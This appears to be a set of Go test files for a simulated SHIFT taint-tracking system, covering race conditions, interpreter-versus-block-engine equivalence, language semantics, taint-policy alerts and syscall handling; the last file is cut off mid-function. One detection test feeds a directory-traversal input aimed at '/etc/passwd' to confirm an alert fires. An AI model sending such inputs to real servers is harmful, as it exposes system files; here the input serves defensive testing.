// UnsafePreempt keeps it, with no serialization needed.
func TestCoherentSchedulingClosesTheRace(t *testing.T) {
	survives := func(quantum uint64, delay int) bool {
		world := NewWorld()
		world.NetIn = []byte{0xAA, 0xBB}
		world.Args = []string{fmt.Sprint(delay)}
		conf := policy.DefaultConfig()
		conf.Sources = map[string]bool{"network": true}
		res, err := BuildAndRun([]Source{{Name: "t", Text: raceProgram}}, world,
			Options{Instrument: true, Policy: conf, Quantum: quantum})
		if err != nil {
			t.Fatal(err)
		}
		if res.Trap != nil || res.Alert != nil {
			t.Fatalf("quantum %d delay %d: trap=%v alert=%v", quantum, delay, res.Trap, res.Alert)
		}
		return res.ExitStatus == 1
	}
	for q := uint64(5); q <= 40; q += 5 {
		for delay := 0; delay <= 60; delay += 3 {
			if !survives(q, delay) {
				t.Fatalf("tag-coherent scheduling lost the update at quantum=%d delay=%d", q, delay)
			}
		}
	}
}

// taintSurvivesSerialized repeats the race grid with SerializedTags on,
// still under UnsafePreempt — serialization alone must close the race
// even when slices may end inside an instrumentation block.
func taintSurvivesSerialized(t *testing.T, quantum uint64, delay int) bool {
	t.Helper()
	world := NewWorld()
	world.NetIn = []byte{0xAA, 0xBB}
	world.Args = []string{fmt.Sprint(delay)}
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{"network": true}
	res, err := BuildAndRun([]Source{{Name: "t", Text: raceProgram}}, world,
		Options{Instrument: true, Policy: conf, Quantum: quantum, SerializedTags: true, UnsafePreempt: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("quantum %d delay %d: trap=%v alert=%v", quantum, delay, res.Trap, res.Alert)
	}
	return res.ExitStatus == 1
}

// TestSerializedTagsCloseTheRace: with the cmpxchg-based bitmap update,
// the full (quantum, delay) grid that contains the losing interleaving
// above never loses a taint bit — the §4.4 hazard is closed.
func TestSerializedTagsCloseTheRace(t *testing.T) {
	for q := uint64(5); q <= 40; q += 5 {
		for delay := 0; delay <= 60; delay += 3 {
			if !taintSurvivesSerialized(t, q, delay) {
				t.Fatalf("serialized tags still lost the update at quantum=%d delay=%d", q, delay)
			}
		}
	}
}

// TestSerializedTagsPreserveSemantics: single-threaded programs behave
// identically with serialization on; it only costs cycles.
func TestSerializedTagsPreserveSemantics(t *testing.T) {
	src := `
char dst[64];
void main() {
	char req[64];
	recv(req, 64);
	strcpy(dst, req);
	exit(is_tainted(dst, 8));
}`
	world := NewWorld()
	world.NetIn = []byte("payload")
	plain, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world, Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	world = NewWorld()
	world.NetIn = []byte("payload")
	ser, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true, SerializedTags: true})
	if err != nil {
		t.Fatal(err)
	}
	if plain.ExitStatus != 1 || ser.ExitStatus != 1 {
		t.Fatalf("taint lost: plain=%d ser=%d", plain.ExitStatus, ser.ExitStatus)
	}
	if ser.Cycles <= plain.Cycles {
		t.Error("serialization should cost cycles")
	}
}
