package shift_test

// Differential engine suite (the block engine's acceptance harness):
// every evaluation workload and every Table 2 attack runs under both the
// reference interpreter and the translated-block engine, and the two
// runs must agree on every observable — traps, alerts, program output,
// exit status, cycle accounting, register NaT state, and the taint
// bitmap. The interpreter is the ground truth; any divergence is a block
// engine bug by definition (see DESIGN.md).

import (
	"fmt"
	"testing"

	"shift/internal/attacks"
	"shift/internal/machine"
	"shift/internal/mem"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/workload"
)

// tagSpan is how much of each data region the taint-bitmap comparison
// covers. The guests here keep data and heap well inside it.
const tagSpan = 1 << 20

// compareResults asserts two runs of the same program are observably
// identical.
func compareResults(t *testing.T, label string, ref, got *shift.Result) {
	t.Helper()
	if (ref.Trap == nil) != (got.Trap == nil) {
		t.Fatalf("%s: trap mismatch: interp=%v block=%v", label, ref.Trap, got.Trap)
	}
	if ref.Trap != nil && (ref.Trap.Kind != got.Trap.Kind || ref.Trap.PC != got.Trap.PC) {
		t.Fatalf("%s: trap detail mismatch: interp=%+v block=%+v", label, ref.Trap, got.Trap)
	}
	if (ref.Alert == nil) != (got.Alert == nil) {
		t.Fatalf("%s: alert mismatch: interp=%v block=%v", label, ref.Alert, got.Alert)
	}
	if ref.Alert != nil && ref.Alert.String() != got.Alert.String() {
		t.Fatalf("%s: alert detail mismatch:\n interp: %v\n block:  %v", label, ref.Alert, got.Alert)
	}
	if ref.ExitStatus != got.ExitStatus {
		t.Errorf("%s: exit status: interp=%d block=%d", label, ref.ExitStatus, got.ExitStatus)
	}
	if string(ref.World.Stdout) != string(got.World.Stdout) {
		t.Errorf("%s: stdout differs", label)
	}
	if string(ref.World.NetOut) != string(got.World.NetOut) {
		t.Errorf("%s: network output differs", label)
	}
	if string(ref.World.HTMLOut) != string(got.World.HTMLOut) {
		t.Errorf("%s: html output differs", label)
	}
	if ref.Cycles != got.Cycles || ref.Retired != got.Retired {
		t.Errorf("%s: counters: interp=(%d,%d) block=(%d,%d)",
			label, ref.Cycles, ref.Retired, got.Cycles, got.Retired)
	}
	if ref.CyclesByClass != got.CyclesByClass {
		t.Errorf("%s: CyclesByClass: interp=%v block=%v", label, ref.CyclesByClass, got.CyclesByClass)
	}
	if ref.Machine != nil && got.Machine != nil {
		if ref.Machine.NaT != got.Machine.NaT {
			t.Errorf("%s: register NaT state differs", label)
		}
		if ref.Machine.GR != got.Machine.GR {
			t.Errorf("%s: general registers differ", label)
		}
		if ref.Machine.PC != got.Machine.PC {
			t.Errorf("%s: PC: interp=%d block=%d", label, ref.Machine.PC, got.Machine.PC)
		}
	}
	compareTags(t, label, ref, got)
}

// compareTags counts tainted units across the guest data and heap
// regions in both runs and requires identical totals.
func compareTags(t *testing.T, label string, ref, got *shift.Result) {
	t.Helper()
	if (ref.World.Tags == nil) != (got.World.Tags == nil) {
		t.Fatalf("%s: one run has a tag space, the other does not", label)
	}
	if ref.World.Tags == nil {
		return
	}
	for _, region := range []uint64{1, 2} {
		addr := mem.Addr(region, 0)
		a, err := ref.World.Tags.CountTainted(addr, tagSpan)
		if err != nil {
			t.Fatalf("%s: counting interp tags: %v", label, err)
		}
		b, err := got.World.Tags.CountTainted(addr, tagSpan)
		if err != nil {
			t.Fatalf("%s: counting block tags: %v", label, err)
		}
		if a != b {
			t.Errorf("%s: region %d taint bitmap differs: interp=%d block=%d units", label, region, a, b)
		}
	}
}

// bothEngines runs the same build under the interpreter and the block
// engine with fresh worlds and returns both results.
func bothEngines(t *testing.T, label string, sources []shift.Source,
	world func() *shift.World, opt shift.Options) (*shift.Result, *shift.Result) {
	t.Helper()
	prog, err := shift.Build(sources, opt)
	if err != nil {
		t.Fatalf("%s: build: %v", label, err)
	}
	opt.Engine = machine.EngineInterp
	ref, err := shift.Run(prog, world(), opt)
	if err != nil {
		t.Fatalf("%s: interp run: %v", label, err)
	}
	opt.Engine = machine.EngineBlock
	got, err := shift.Run(prog, world(), opt)
	if err != nil {
		t.Fatalf("%s: block run: %v", label, err)
	}
	return ref, got
}

// TestEngineDifferentialWorkloads sweeps the Figure 7 benchmarks through
// both engines, uninstrumented and instrumented at both granularities.
func TestEngineDifferentialWorkloads(t *testing.T) {
	modes := []struct {
		name string
		opt  func(b *workload.Benchmark) shift.Options
	}{
		{"base", func(b *workload.Benchmark) shift.Options {
			return shift.Options{Policy: b.Config()}
		}},
		{"byte", func(b *workload.Benchmark) shift.Options {
			conf := b.Config()
			conf.Granularity = taint.Byte
			return shift.Options{Instrument: true, Policy: conf}
		}},
		{"word", func(b *workload.Benchmark) shift.Options {
			conf := b.Config()
			conf.Granularity = taint.Word
			return shift.Options{Instrument: true, Policy: conf}
		}},
	}
	// The fixed-iteration kernels dominate -short (-race CI) runtime;
	// the full matrix covers them in the regular suite.
	slow := map[string]bool{"vpr": true, "twolf": true, "mcf": true}
	for _, b := range workload.All() {
		b := b
		t.Run(b.Name, func(t *testing.T) {
			if testing.Short() && slow[b.Name] {
				t.Skip("fixed-iteration kernel; covered by the non-short run")
			}
			sc := b.RefScale / 8
			if sc < 64 {
				sc = 64
			}
			for _, m := range modes {
				sources := []shift.Source{{Name: b.Name + ".mc", Text: b.Source}}
				ref, got := bothEngines(t, m.name, sources,
					func() *shift.World { return b.World(sc) }, m.opt(b))
				if ref.Trap != nil || ref.Alert != nil {
					t.Fatalf("%s: benchmark not clean: trap=%v alert=%v", m.name, ref.Trap, ref.Alert)
				}
				compareResults(t, b.Name+"/"+m.name, ref, got)
			}
		})
	}
}

// TestEngineDifferentialAttacks runs every Table 2 attack's benign and
// exploit inputs under both engines at both granularities: detections,
// alerts and outputs must be engine-independent.
func TestEngineDifferentialAttacks(t *testing.T) {
	grans := []taint.Granularity{taint.Byte, taint.Word}
	if testing.Short() {
		grans = grans[:1]
	}
	for _, a := range attacks.All() {
		a := a
		t.Run(a.Program, func(t *testing.T) {
			for _, gran := range grans {
				conf := a.Config()
				conf.Granularity = gran
				opt := shift.Options{Instrument: true, Policy: conf}
				sources := []shift.Source{{Name: a.Program, Text: a.Source}}

				ref, got := bothEngines(t, "benign", sources, a.Benign, opt)
				compareResults(t, fmt.Sprintf("%s/benign/%v", a.Program, gran), ref, got)

				ref, got = bothEngines(t, "exploit", sources, a.Exploit, opt)
				compareResults(t, fmt.Sprintf("%s/exploit/%v", a.Program, gran), ref, got)
				if ref.Alert == nil && a.Expect != "" {
					t.Errorf("%v: exploit raised no alert (expected %s)", gran, a.Expect)
				}
			}
		})
	}
}

// TestEngineDifferentialThreads exercises quantum expiry inside and at
// translated-block boundaries: threaded guests under small quanta must
// schedule identically on both engines (the block engine's per-op
// preemption check mirrors the interpreter's tag-coherent slice ends).
// The -race CI stage runs this too, covering the shared translation
// registry under concurrent machine construction.
func TestEngineDifferentialThreads(t *testing.T) {
	src := `
char log[128];
int pos;
int done[4];

int worker(int id) {
	int i;
	int acc = 0;
	for (i = 0; i < 12; i++) {
		log[pos] = 'a' + id;
		pos++;
		acc += i * id;
		yield();
	}
	done[id] = acc;
	return acc;
}

void main() {
	int t1 = spawn("worker", 1);
	int t2 = spawn("worker", 2);
	int t3 = spawn("worker", 3);
	if (t1 < 0 || t2 < 0 || t3 < 0) exit(9);
	join(t1);
	join(t2);
	join(t3);
	log[pos] = 0;
	print_str(log);
	print_int(done[1] + done[2] + done[3]);
	putc('\n');
	exit(0);
}
`
	for _, quantum := range []uint64{1, 7, 23, 50} {
		for _, instrument := range []bool{false, true} {
			label := fmt.Sprintf("q=%d/instrument=%v", quantum, instrument)
			opt := shift.Options{Instrument: instrument, Quantum: quantum}
			sources := []shift.Source{{Name: "threads.mc", Text: src}}
			ref, got := bothEngines(t, label, sources, shift.NewWorld, opt)
			if ref.Trap != nil || ref.ExitStatus != 0 {
				t.Fatalf("%s: interp run not clean: trap=%v exit=%d", label, ref.Trap, ref.ExitStatus)
			}
			compareResults(t, label, ref, got)
		}
	}
}
