package shift

import (
	"strings"
	"testing"

	"shift/internal/machine"
	"shift/internal/policy"
	"shift/internal/taint"
)

// runProgram builds and runs src in every requested mode.
func runProgram(t *testing.T, src string, world *World, opt Options) *Result {
	t.Helper()
	if world == nil {
		world = NewWorld()
	}
	res, err := BuildAndRun([]Source{{Name: "test.mc", Text: src}}, world, opt)
	if err != nil {
		t.Fatalf("build/run: %v", err)
	}
	return res
}

// expectExit runs src and requires a clean exit with the given status.
func expectExit(t *testing.T, src string, want int64, opt Options) *Result {
	t.Helper()
	res := runProgram(t, src, nil, opt)
	if res.Trap != nil {
		t.Fatalf("unexpected trap: %v", res.Trap)
	}
	if res.Alert != nil {
		t.Fatalf("unexpected alert: %v", res.Alert)
	}
	if res.ExitStatus != want {
		t.Fatalf("exit = %d, want %d", res.ExitStatus, want)
	}
	return res
}

// allModes runs a status-check in baseline, byte- and word-instrumented
// modes with and without enhancements: the program must behave
// identically everywhere.
func allModes(t *testing.T, src string, want int64) {
	t.Helper()
	modes := []struct {
		name string
		opt  Options
	}{
		{"baseline", Options{}},
		{"byte", Options{Instrument: true, Granularity: taint.Byte}},
		{"word", Options{Instrument: true, Granularity: taint.Word}},
		{"byte+enh", Options{Instrument: true, Granularity: taint.Byte,
			Features: machine.Features{SetClrNaT: true, NaTAwareCmp: true}}},
		{"byte+perfn", Options{Instrument: true, Granularity: taint.Byte, NaTPerFunction: true}},
	}
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			expectExit(t, src, want, m.opt)
		})
	}
}

func TestArithmetic(t *testing.T) {
	allModes(t, `
void main() {
	int a = 6;
	int b = 7;
	exit(a * b);
}`, 42)
}

func TestControlFlow(t *testing.T) {
	allModes(t, `
int fib(int n) {
	if (n < 2) return n;
	return fib(n - 1) + fib(n - 2);
}
void main() {
	exit(fib(12));
}`, 144)
}

func TestLoopsAndArrays(t *testing.T) {
	allModes(t, `
void main() {
	int a[10];
	int i;
	int sum = 0;
	for (i = 0; i < 10; i++) a[i] = i * i;
	for (i = 0; i < 10; i++) sum += a[i];
	exit(sum);
}`, 285)
}

func TestGlobalsAndPointers(t *testing.T) {
	allModes(t, `
int counter = 10;
int bump(int *p, int by) {
	*p = *p + by;
	return *p;
}
void main() {
	bump(&counter, 5);
	bump(&counter, 7);
	exit(counter);
}`, 22)
}

func TestStringsRuntime(t *testing.T) {
	allModes(t, `
void main() {
	char a[32];
	char b[32];
	strcpy(a, "hello");
	strcpy(b, "hello");
	if (strcmp(a, b) != 0) exit(1);
	strcat(a, " world");
	if (strlen(a) != 11) exit(2);
	if (strcasecmp(a, "HELLO WORLD") != 0) exit(3);
	if (atoi("  -42") != -42) exit(4);
	char num[24];
	if (itoa(-1234, num) != 5) exit(5);
	if (strcmp(num, "-1234") != 0) exit(6);
	if (strstr_at("abcdef", "cde") != 2) exit(7);
	exit(0);
}`, 0)
}

func TestCharSemantics(t *testing.T) {
	allModes(t, `
void main() {
	char c = 250;
	c = c + 10;     // wraps at 8 bits
	if (c != 4) exit(1);
	char buf[4];
	buf[0] = 300;   // truncates to 44
	if (buf[0] != 44) exit(2);
	exit(0);
}`, 0)
}

func TestTernaryAndLogical(t *testing.T) {
	allModes(t, `
int calls = 0;
int side(int v) { calls++; return v; }
void main() {
	int a = 1 ? 10 : 20;
	if (a != 10) exit(1);
	// Short-circuit: side() must not run.
	if (0 && side(1)) exit(2);
	if (calls != 0) exit(3);
	if (1 || side(1)) { } else exit(4);
	if (calls != 0) exit(5);
	exit(0);
}`, 0)
}

func TestHeapSbrk(t *testing.T) {
	allModes(t, `
void main() {
	char *p = sbrk(64);
	char *q = sbrk(64);
	if (q - p < 64) exit(1);
	p[0] = 'x';
	p[63] = 'y';
	if (p[0] != 'x' || p[63] != 'y') exit(2);
	exit(0);
}`, 0)
}

func TestStdoutWrite(t *testing.T) {
	res := expectExit(t, `
void main() {
	print_str("hi ");
	print_int(-7);
	putc('\n');
	exit(0);
}`, 0, Options{})
	if got := string(res.World.Stdout); got != "hi -7\n" {
		t.Errorf("stdout = %q", got)
	}
}

// --- Taint-flow semantics ---------------------------------------------------

func TestTaintFlowsThroughStrcpy(t *testing.T) {
	// Network data is tainted; copying it propagates taint through the
	// instrumented runtime; is_tainted observes the bitmap.
	src := `
char dst[64];
void main() {
	char req[64];
	recv(req, 64);
	strcpy(dst, req);
	exit(is_tainted(dst, 8));
}`
	world := NewWorld()
	world.NetIn = []byte("payload")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 1 {
		t.Errorf("copied network data not tainted (exit %d)", res.ExitStatus)
	}
}

func TestUntaintedBaselineSeesNoTaint(t *testing.T) {
	src := `
void main() {
	char req[64];
	recv(req, 64);
	exit(is_tainted(req, 8));
}`
	world := NewWorld()
	world.NetIn = []byte("payload")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 0 {
		t.Error("baseline run reported taint")
	}
}

func TestTaintClearedByOverwrite(t *testing.T) {
	src := `
void main() {
	char buf[64];
	recv(buf, 8);
	if (!is_tainted(buf, 8)) exit(1);
	int i;
	for (i = 0; i < 8; i++) buf[i] = 'x';   // clean constants overwrite
	exit(is_tainted(buf, 8) ? 2 : 0);
}`
	world := NewWorld()
	world.NetIn = []byte("AAAAAAAA")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 0 {
		t.Errorf("exit = %d, want 0 (taint should clear on overwrite)", res.ExitStatus)
	}
}

func TestTaintedComparisonStillComputes(t *testing.T) {
	// Without relaxation, comparing tainted data would clear both
	// predicates and corrupt control flow; SHIFT's relaxed compares keep
	// the program semantics (paper §3.1).
	src := `
void main() {
	char buf[16];
	recv(buf, 4);
	if (buf[0] == 'G' && buf[1] == 'E' && buf[2] == 'T') exit(7);
	exit(1);
}`
	world := NewWorld()
	world.NetIn = []byte("GET ")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 7 {
		t.Errorf("tainted comparison broke control flow: exit %d", res.ExitStatus)
	}
}

func TestTaintedWordGranularity(t *testing.T) {
	src := `
char dst[64];
void main() {
	char req[64];
	recv(req, 16);
	memcpy(dst, req, 16);
	exit(is_tainted(dst, 16));
}`
	world := NewWorld()
	world.NetIn = []byte("0123456789abcdef")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true, Granularity: taint.Word})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("trap=%v alert=%v", res.Trap, res.Alert)
	}
	if res.ExitStatus != 1 {
		t.Errorf("word-level tracking lost the taint (exit %d)", res.ExitStatus)
	}
}

// --- Policy detection ---------------------------------------------------------

func TestL3TaintedExitStatus(t *testing.T) {
	// Tainted data used as a syscall scalar argument trips the L3 check.
	src := `
void main() {
	char buf[16];
	recv(buf, 8);
	exit(buf[0]);
}`
	world := NewWorld()
	world.NetIn = []byte("A")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil || res.Alert.Violation.Policy != "L3" {
		t.Fatalf("want L3 alert, got alert=%v trap=%v", res.Alert, res.Trap)
	}
}

func TestL1TaintedLoadAddress(t *testing.T) {
	src := `
int table[256];
void main() {
	char buf[16];
	recv(buf, 8);
	int idx = buf[0];
	exit(table[idx]);     // deref through tainted index
}`
	world := NewWorld()
	world.NetIn = []byte{3}
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil || res.Alert.Violation.Policy != "L1" {
		t.Fatalf("want L1 alert, got alert=%v trap=%v", res.Alert, res.Trap)
	}
}

func TestL2TaintedStoreAddress(t *testing.T) {
	src := `
int table[256];
void main() {
	char buf[16];
	recv(buf, 8);
	int idx = buf[0];
	table[idx] = 1;       // store through tainted index
	exit(0);
}`
	world := NewWorld()
	world.NetIn = []byte{3}
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil || res.Alert.Violation.Policy != "L2" {
		t.Fatalf("want L2 alert, got alert=%v trap=%v", res.Alert, res.Trap)
	}
}

func TestPermissivePointerPolicy(t *testing.T) {
	// The same tainted-index lookup is allowed inside a notrack
	// function (the paper's translation-table escape hatch, §3.3.2).
	src := `
int table[256];
int lookup(int idx) { return table[idx]; }
void main() {
	char buf[16];
	recv(buf, 8);
	table[3] = 99;
	int v = lookup(buf[0]);
	exit(v == 99 ? 0 : 1);
}`
	conf := policy.DefaultConfig()
	conf.NoTrack["lookup"] = true
	world := NewWorld()
	world.NetIn = []byte{3}
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true, Policy: conf})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap != nil || res.Alert != nil {
		t.Fatalf("permissive lookup still trapped: alert=%v trap=%v", res.Alert, res.Trap)
	}
	if res.ExitStatus != 0 {
		t.Errorf("lookup result wrong: exit %d", res.ExitStatus)
	}
}

func TestNoFalsePositiveOnBenignInput(t *testing.T) {
	// A server that checks lengths properly raises no alert even though
	// all its input is tainted.
	src := `
void main() {
	char req[128];
	char name[32];
	int n = recv(req, 128);
	if (n > 31) n = 31;
	strncpy(name, req, n);
	name[n] = 0;
	char path[64];
	strcpy(path, "/www/");
	strcat(path, name);
	int fd = open(path, 0);
	exit(fd >= 0 ? 0 : 1);
}`
	world := NewWorld()
	world.NetIn = []byte("index.html")
	world.Files["/www/index.html"] = []byte("<html>")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert != nil {
		t.Fatalf("false positive: %v", res.Alert)
	}
	if res.Trap != nil {
		t.Fatalf("trap: %v", res.Trap)
	}
	if res.ExitStatus != 0 {
		t.Errorf("exit %d", res.ExitStatus)
	}
}

func TestH2DirectoryTraversal(t *testing.T) {
	src := `
void main() {
	char req[128];
	char path[192];
	recv(req, 128);
	strcpy(path, "/www/");
	strcat(path, req);
	open(path, 0);
	exit(0);
}`
	world := NewWorld()
	world.NetIn = []byte("../../etc/passwd")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world,
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil || res.Alert.Violation.Policy != "H2" {
		t.Fatalf("want H2 alert, got alert=%v trap=%v", res.Alert, res.Trap)
	}
}

func TestInstrumentationOverheadOrdering(t *testing.T) {
	// Sanity for the evaluation: instrumented > baseline cycles, and the
	// enhancements reduce instrumented cycles.
	src := `
void main() {
	char buf[256];
	recv(buf, 256);
	int sum = 0;
	int i;
	int j;
	for (j = 0; j < 20; j++) {
		for (i = 0; i < 256; i++) {
			if (buf[i] > 64) sum += buf[i];
			else sum += 1;
		}
	}
	// The sum is tainted; exit through a comparison, whose 0/1 result
	// is clean (control-dependency taint is not tracked, §3.3.2).
	exit(sum > 100000 ? 1 : 0);
}`
	world := func() *World {
		w := NewWorld()
		b := make([]byte, 256)
		for i := range b {
			b[i] = byte(i)
		}
		w.NetIn = b
		return w
	}

	base, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	instr, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world(),
		Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	enh, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world(),
		Options{Instrument: true, Features: machine.Features{SetClrNaT: true, NaTAwareCmp: true}})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range []*Result{base, instr, enh} {
		if r.Trap != nil || r.Alert != nil {
			t.Fatalf("trap=%v alert=%v", r.Trap, r.Alert)
		}
	}
	if base.ExitStatus != instr.ExitStatus || base.ExitStatus != enh.ExitStatus {
		t.Fatalf("semantics diverge: %d vs %d vs %d", base.ExitStatus, instr.ExitStatus, enh.ExitStatus)
	}
	if !(base.Cycles < enh.Cycles && enh.Cycles < instr.Cycles) {
		t.Errorf("cycle ordering wrong: base=%d enh=%d instr=%d", base.Cycles, enh.Cycles, instr.Cycles)
	}
	if instr.CyclesByClass[0] == instr.Cycles {
		t.Error("no cycles attributed to instrumentation classes")
	}
}

func TestAlertStringAndCatalog(t *testing.T) {
	if len(policy.Catalog()) != 8 {
		t.Error("catalogue should list 8 policies")
	}
	a := &Alert{Violation: &policy.Violation{Policy: "H1", Detail: "x"}}
	if !strings.Contains(a.String(), "H1") {
		t.Error("alert string lacks policy id")
	}
}
