package shift

import (
	"strings"
	"testing"

	"shift/internal/policy"
)

// Targeted OS-model tests: channel semantics, edge cases and error paths
// of the syscall layer.

func TestFileReadSemantics(t *testing.T) {
	src := `
void main() {
	char buf[16];
	// Missing file.
	if (open("nope", 0) != -1) exit(1);
	int fd = open("data", 0);
	if (fd < 0) exit(2);
	// Short reads drain the file across calls.
	if (read(fd, buf, 4) != 4) exit(3);
	if (buf[0] != 'a' || buf[3] != 'd') exit(4);
	if (read(fd, buf, 16) != 2) exit(5);
	if (buf[0] != 'e' || buf[1] != 'f') exit(6);
	if (read(fd, buf, 16) != 0) exit(7);
	// Reading a bogus descriptor fails.
	if (read(99, buf, 4) != -1) exit(8);
	exit(0);
}
`
	world := NewWorld()
	world.Files["data"] = []byte("abcdef")
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 0 {
		t.Fatalf("exit=%d trap=%v", res.ExitStatus, res.Trap)
	}
}

func TestStdinChannel(t *testing.T) {
	src := `
void main() {
	char buf[8];
	int n = read(0, buf, 8);
	write(1, buf, n);
	exit(is_tainted(buf, n));
}
`
	world := NewWorld()
	world.Stdin = []byte("hiya")
	// stdin is a taint source only when configured.
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world, Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	if string(res.World.Stdout) != "hiya" {
		t.Errorf("stdout = %q", res.World.Stdout)
	}
	if res.ExitStatus != 0 {
		t.Error("stdin tainted though not configured as a source")
	}

	conf := func() *World {
		w := NewWorld()
		w.Stdin = []byte("hiya")
		return w
	}
	pc, err := Build([]Source{{Name: "t", Text: src}}, Options{Instrument: true})
	if err != nil {
		t.Fatal(err)
	}
	opt := Options{Instrument: true}
	opt.Policy = defaultConfWithSources(t, "stdin")
	res, err = Run(pc, conf(), opt)
	if err != nil {
		t.Fatal(err)
	}
	if res.Alert == nil && res.ExitStatus != 1 {
		t.Errorf("stdin source not tainting: exit=%d", res.ExitStatus)
	}
}

// defaultConfWithSources builds a config with only the given sources.
func defaultConfWithSources(t *testing.T, sources ...string) *policy.Config {
	t.Helper()
	conf := policy.DefaultConfig()
	conf.Sources = map[string]bool{}
	for _, s := range sources {
		conf.Sources[s] = true
	}
	return conf
}

func TestGetArgTruncationAndBounds(t *testing.T) {
	src := `
void main() {
	char buf[8];
	int n = getarg(0, buf, 8);
	if (n != 7) exit(1);             // truncated to cap-1
	if (strcmp(buf, "0123456") != 0) exit(2);
	if (getarg(5, buf, 8) != -1) exit(3);
	if (getarg(-1, buf, 8) != -1) exit(4);
	exit(0);
}
`
	world := NewWorld()
	world.Args = []string{"0123456789"}
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, world, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 0 {
		t.Fatalf("exit=%d", res.ExitStatus)
	}
}

func TestSbrkGrowsDisjointly(t *testing.T) {
	src := `
void main() {
	char *a = sbrk(100);
	char *b = sbrk(100);
	if (b - a < 100) exit(1);
	// The regions do not alias.
	a[0] = 'A';
	b[0] = 'B';
	if (a[0] != 'A') exit(2);
	exit(0);
}
`
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, NewWorld(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitStatus != 0 {
		t.Fatalf("exit=%d trap=%v", res.ExitStatus, res.Trap)
	}
}

func TestWorldClonePreservesInputsOnly(t *testing.T) {
	w := NewWorld()
	w.Files["f"] = []byte("x")
	w.NetIn = []byte("net")
	w.Args = []string{"a"}
	w.Stdout = []byte("old output")
	w.SQLLog = []string{"old"}
	c := w.Clone()
	if string(c.Files["f"]) != "x" || string(c.NetIn) != "net" || len(c.Args) != 1 {
		t.Error("clone lost inputs")
	}
	if len(c.Stdout) != 0 || len(c.SQLLog) != 0 {
		t.Error("clone kept outputs")
	}
}

func TestUnknownSyscallTraps(t *testing.T) {
	// Hand-build a program issuing a bogus syscall number.
	src := `
void main() {
	exit(0);
}
`
	prog, err := Build([]Source{{Name: "t", Text: src}}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	// Patch the exit syscall number to something unknown.
	for i := range prog.Text {
		if prog.Text[i].String() == "syscall 1" {
			prog.Text[i].Imm = 99
		}
	}
	res, err := Run(prog, NewWorld(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Trap == nil || !strings.Contains(res.Trap.Error(), "unknown syscall") {
		t.Errorf("trap = %v", res.Trap)
	}
}

func TestHTMLAndSendOutputsRouted(t *testing.T) {
	src := `
void main() {
	send("to-net", 6);
	html_write("<p>ok</p>", 9);
	putc('!');
	exit(0);
}
`
	res, err := BuildAndRun([]Source{{Name: "t", Text: src}}, NewWorld(), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if string(res.World.NetOut) != "to-net" {
		t.Errorf("netout = %q", res.World.NetOut)
	}
	if string(res.World.HTMLOut) != "<p>ok</p>" {
		t.Errorf("htmlout = %q", res.World.HTMLOut)
	}
	if string(res.World.Stdout) != "!" {
		t.Errorf("stdout = %q", res.World.Stdout)
	}
}

// Malformed transfer counts — negative, or far past any plausible buffer —
// must fail the syscall with -1 instead of echoing garbage through r8,
// charging astronomic I/O cycles, or panicking the host on a negative
// allocation (the pre-fix behaviour of the bare int(n) conversions).
func TestMalformedIOCountsRejected(t *testing.T) {
	src := `
void main() {
	char buf[16];
